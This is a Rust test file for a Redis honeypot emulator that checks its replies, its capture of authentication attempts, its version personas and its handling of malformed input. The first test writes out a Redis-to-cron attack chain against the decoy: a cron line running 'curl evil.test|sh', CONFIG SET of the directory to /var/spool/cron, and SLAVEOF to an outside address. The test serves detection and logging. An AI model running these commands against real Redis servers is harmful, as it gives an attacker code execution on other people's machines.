//! Redis: open to everyone, every command in the log.

use serde_json::json;

use crate::decoy::{Decoy, Start};

#[test]
fn anyone_may_write_and_read_and_each_command_is_logged_whole() {
    let decoy = Decoy::start("redis");
    let mut talk = decoy.connect();
    assert_eq!(talk.ask("PING", "\r\n"), "+PONG\r\n");
    talk.send("*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$33\r\n\n\n*/1 * * * * curl evil.test|sh\n\n\r\n");
    assert_eq!(talk.expect("\r\n"), "+OK\r\n");
    assert_eq!(talk.ask("CONFIG SET dir /var/spool/cron", "\r\n"), "+OK\r\n");
    assert_eq!(
        talk.ask("CONFIG GET dir", "cron\r\n"),
        "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"
    );
    assert_eq!(talk.ask("SLAVEOF 192.0.2.9 21000", "\r\n"), "+OK\r\n");
    assert!(talk.ask("ROLE", ":-1\r\n").contains("192.0.2.9"));

    // The keyspace is the server's, not the connection's.
    let mut other = decoy.connect();
    assert!(other.ask("GET x", "sh\n\n\r\n").starts_with("$33\r\n"));

    let line = |wanted: &str| {
        decoy.event("command", |event| {
            event["process"]["command_line"]
                .as_str()
                .unwrap()
                .contains(wanted)
        })
    };
    assert_eq!(
        line("curl")["process"]["command_line"],
        "SET x \"\\n\\n*/1 * * * * curl evil.test|sh\\n\\n\""
    );
    assert_eq!(line("SLAVEOF")["event"]["category"], json!(["database"]));
}

#[test]
fn both_forms_of_auth_are_captured() {
    let decoy = Decoy::start("redis");
    let mut talk = decoy.connect();
    assert!(
        talk.ask("AUTH hunter2", "\r\n")
            .starts_with("-ERR AUTH <password> called without any password")
    );
    assert!(talk.ask("AUTH admin letmein", "\r\n").starts_with("-WRONGPASS"));
    assert_eq!(talk.ask("AUTH default x", "\r\n"), "+OK\r\n");
    assert_eq!(decoy.login("default", "hunter2")["event"]["outcome"], "failure");
    assert_eq!(decoy.login("admin", "letmein")["event"]["outcome"], "failure");
    assert_eq!(decoy.login("default", "x")["event"]["outcome"], "success");
}

#[test]
fn hello_switches_to_resp3() {
    let decoy = Start::new("redis").persona(&json!({ "version": "7.2.4" })).run();
    let mut talk = decoy.connect();
    assert!(
        talk.ask("HELLO 3", "modules\r\n*0\r\n")
            .starts_with("%7\r\n$6\r\nserver\r\n$5\r\nredis\r\n")
    );
    assert_eq!(talk.ask("GET nothing", "\r\n"), "_\r\n");
    talk.ask("HSET h f v", ":1\r\n");
    assert_eq!(talk.ask("HGETALL h", "v\r\n"), "%1\r\n$1\r\nf\r\n$1\r\nv\r\n");
    assert!(talk.ask("HELLO 9", "\r\n").starts_with("-NOPROTO"));
}

#[test]
fn the_persona_chooses_version_and_system_and_the_seed_all_else() {
    let info = |start: Start| {
        let decoy = start.run();
        let mut talk = decoy.connect();
        talk.ask("INFO server", "config_file")
    };
    let persona = json!({ "version": "4.0.9", "os_string": "Linux 4.4.0 mips" });
    let shown = info(Start::new("redis").persona(&persona));
    assert!(
        shown.contains("redis_version:4.0.9\r\n") && shown.contains("os:Linux 4.4.0 mips\r\n"),
        "{shown}"
    );

    let run_id = |text: &str| {
        text.lines()
            .find(|line| line.starts_with("run_id:"))
            .unwrap()
            .to_owned()
    };
    let (one, again, other) = (
        Start::new("redis").seed(1),
        Start::new("redis").seed(1),
        Start::new("redis").seed(2),
    );
    let (one, again, other) = (run_id(&info(one)), run_id(&info(again)), run_id(&info(other)));
    assert_eq!(one, again);
    assert_ne!(one, other);
}

#[test]
fn commands_a_release_does_not_have_are_unknown_to_it() {
    let decoy = Start::new("redis").persona(&json!({ "version": "3.2.12" })).run();
    let mut talk = decoy.connect();
    assert_eq!(talk.ask("HELLO 3", "\r\n"), "-ERR unknown command 'HELLO'\r\n");
}

#[test]
fn rubbish_and_promises_too_large_end_the_connection_and_nothing_else() {
    let mut decoy = Decoy::start("redis");
    for (sent, answer) in [
        (
            &b"*1\r\n$999999999\r\n"[..],
            "-ERR Protocol error: invalid bulk length\r\n",
        ),
        (b"*99999\r\n", "-ERR Protocol error: invalid multibulk length\r\n"),
        (b"*1\r\n!x\r\n", "-ERR Protocol error: expected '$', got '!'\r\n"),
        (&[b'x'; 70_000], "-ERR Protocol error: too big inline request\r\n"),
    ] {
        let mut talk = decoy.connect();
        talk.send(sent);
        assert_eq!(talk.expect("\r\n"), answer);
    }
    decoy.connect().send([0xff, 0, 0xfe, 13, 10]);
    decoy.event("garbage", |event| {
        event["decnet"]["payload"] == "invalid bulk length"
    });
    assert_eq!(decoy.connect().ask("PING", "\r\n"), "+PONG\r\n");
    assert!(decoy.is_running());
}

#[test]
fn memory_is_bounded_by_refusing_further_writes() {
    let decoy = Decoy::start("redis");
    let mut talk = decoy.connect();
    let value = "v".repeat(400_000);
    let refused = (0..40).any(|index| {
        talk.send(format!(
            "*3\r\n$3\r\nSET\r\n$2\r\n{index:02}\r\n${}\r\n{value}\r\n",
            value.len()
        ));
        talk.expect("\r\n").starts_with("-OOM")
    });
    assert!(refused);
    assert_eq!(talk.ask("FLUSHALL", "\r\n"), "+OK\r\n");
    assert_eq!(talk.ask("SET a b", "\r\n"), "+OK\r\n");
}
